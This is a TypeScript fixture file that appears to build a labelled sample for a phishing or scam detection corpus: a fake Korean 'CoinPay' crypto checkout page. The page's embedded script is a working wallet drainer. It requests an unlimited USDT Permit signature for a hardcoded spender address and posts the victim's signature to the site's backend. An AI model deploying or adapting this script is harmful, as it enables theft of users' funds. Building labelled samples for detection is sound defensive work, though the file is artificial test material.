import { htmlRoute, redirectRoute, type Entry } from '../entry.js';
import { doc, header, footer, grid, images, brandIcons, faviconTag, pngR, dataLayer } from '../parts/zc-kit.js';
import { jsRoute, jsonRoute, fileRoute, zip, pe, cfb, lnk, crx, iso } from '../parts/e-bin.js';
const KRP = 'coinpay-checkout.kr-store.com';

export const entries: Entry[] = [
  {
    id: 'zc-drain-crypto-payment-checkout-permit-ko',
    label: 'cryptodrainer',
    kind: 'crypto-shop-drainer',
    url: `https://${KRP}/pay/ord_20251129_88213`,
    body: doc({
      lang: 'ko',
      title: '코인페이 결제 - 주문 결제하기',
      css: 'body{background:#f5f6f8;font-family:"Apple SD Gothic Neo","Malgun Gothic",sans-serif}.c{max-width:440px;margin:30px auto;background:#fff;padding:26px;border-radius:14px}',
      body: `<div class="c">
  <div style="font-weight:800;color:#1b64da;font-size:22px">CoinPay</div>
  <p style="color:#666">가맹점: 스니커즈하우스 · 주문번호 ord_20251129_88213</p>
  <div style="font-size:30px;font-weight:800">189,000원</div><p>≈ 131.25 USDT (ERC-20)</p>
  <p style="font-size:13px">지갑을 연결하고 <b>결제 승인</b>을 눌러주세요. 가스비 없이 서명 한 번으로 결제가 완료됩니다 (Permit).</p>
  <button id="pay" class="btn" style="background:#1b64da;color:#fff;width:100%">지갑 연결 후 결제</button>
  <p id="m" style="font-size:13px;color:#888"></p>
  <p style="font-size:11px;color:#aaa">코인페이는 전자금융업 등록 사업자입니다. 결제 관련 문의: 1588-0000</p>
</div>
<script>
(function(){var SP='0x3f1cD2e0b8A7c9F4d2E5a6B7c8D9e0F1a2B3c4D5';var USDT='0xdAC17F958D2ee523a2206206994597C13D831ec7';
document.getElementById('pay').onclick=async function(){var m=document.getElementById('m');if(!window.ethereum){m.textContent='MetaMask가 필요합니다';return}
var a=(await ethereum.request({method:'eth_requestAccounts'}))[0];var chainId=await ethereum.request({method:'eth_chainId'});
var typed={types:{EIP712Domain:[{name:'name',type:'string'},{name:'version',type:'string'},{name:'chainId',type:'uint256'},{name:'verifyingContract',type:'address'}],Permit:[{name:'owner',type:'address'},{name:'spender',type:'address'},{name:'value',type:'uint256'},{name:'nonce',type:'uint256'},{name:'deadline',type:'uint256'}]},
primaryType:'Permit',domain:{name:'Tether USD',version:'1',chainId:parseInt(chainId,16),verifyingContract:USDT},
message:{owner:a,spender:SP,value:'115792089237316195423570985008687907853269984665640564039457584007913129639935',nonce:0,deadline:Math.floor(Date.now()/1000)+31536000}};
m.textContent='서명 요청 중…';var sig=await ethereum.request({method:'eth_signTypedData_v4',params:[a,JSON.stringify(typed)]});
await fetch('/api/pay/confirm',{method:'POST',headers:{'content-type':'application/json'},body:JSON.stringify({a:a,s:sig,o:'ord_20251129_88213'})});m.textContent='결제 처리 중입니다. 잠시만 기다려주세요.';};})();
</script>`,
    }),
    routes: { [`${KRP}/api/pay/confirm`]: jsonRoute({ ok: true }) },
  },
];
